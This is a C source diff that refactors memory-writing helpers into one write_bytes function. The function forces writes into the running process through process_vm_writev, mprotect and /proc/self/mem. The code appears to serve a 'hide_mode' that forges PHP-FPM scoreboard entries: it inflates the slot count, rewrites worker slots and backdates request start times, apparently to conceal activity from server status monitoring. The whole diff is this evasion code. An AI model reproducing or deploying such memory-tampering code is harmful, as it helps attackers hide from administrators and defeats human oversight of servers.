@@ -32,44 +32,22 @@
 #define SB_PAGE 4096	/* before slots had a page each */
 #endif
 
+/* Write n bytes of v at at, every way pool code could: returns how, or
+ * NULL (errno set) if none worked. */
 static const char *
-write_slot(struct sb_slot *s, const struct sb_slot *v)
+write_bytes(void *at, const void *v, size_t n)
 {
-	struct iovec l = { (void *)v, sizeof(*v) }, r = { s, sizeof(*v) };
-	uintptr_t page = (uintptr_t)s & ~(uintptr_t)(SB_PAGE - 1);
-	int fd;
-
-	if (process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)sizeof(*v))
-		return "process_vm_writev";
-	if (mprotect((void *)page, SB_PAGE, PROT_READ | PROT_WRITE) == 0 &&
-	    process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)sizeof(*v))
-		return "mprotect";
-	fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
-	if (fd >= 0 && pwrite(fd, v, sizeof(*v), (off_t)(uintptr_t)s) ==
-	    (ssize_t)sizeof(*v)) {
-		close(fd);
-		return "/proc/self/mem";
-	}
-	if (fd >= 0)
-		close(fd);
-	return NULL;
-}
-
-static const char *
-write_word(unsigned *at, unsigned v)
-{
-	struct iovec l = { &v, sizeof(v) }, r = { at, sizeof(v) };
+	struct iovec l = { (void *)v, n }, r = { at, n };
 	uintptr_t page = (uintptr_t)at & ~(uintptr_t)(SB_PAGE - 1);
 	int fd;
 
-	if (process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)sizeof(v))
+	if (process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)n)
 		return "process_vm_writev";
 	if (mprotect((void *)page, SB_PAGE, PROT_READ | PROT_WRITE) == 0 &&
-	    process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)sizeof(v))
+	    process_vm_writev(getpid(), &l, 1, &r, 1, 0) == (ssize_t)n)
 		return "mprotect";
 	fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
-	if (fd >= 0 && pwrite(fd, &v, sizeof(v), (off_t)(uintptr_t)at) ==
-	    (ssize_t)sizeof(v)) {
+	if (fd >= 0 && pwrite(fd, v, n, (off_t)(uintptr_t)at) == (ssize_t)n) {
 		close(fd);
 		return "/proc/self/mem";
 	}
@@ -89,7 +67,8 @@ forge_region(fpm_request *req, struct scoreboard *sb, unsigned long hi,
 	if (sb->nslots == 0 || need > hi - (unsigned long)sb)
 		return;
 	if (hide_mode == 2) {
-		const char *how = write_word(&sb->nslots, 1U << 28);
+		unsigned huge = 1U << 28;
+		const char *how = write_bytes(&sb->nslots, &huge, sizeof(huge));
 
 		if (how != NULL)
 			fpm_printf(req, "forged nslots (%s)\n", how);
@@ -114,7 +93,7 @@ forge_region(fpm_request *req, struct scoreboard *sb, unsigned long hi,
 			v.req_start_ms = v.req_start_ms > 600 * 1000 ?
 			    v.req_start_ms - 600 * 1000 : 1;
 		}
-		how = write_slot(s, &v);
+		how = write_bytes(s, &v, sizeof(v));
 		if (how != NULL)
 			fpm_printf(req, "forged slot %u pid %d (%s)\n", i,
 			    (int)v.pid, how);
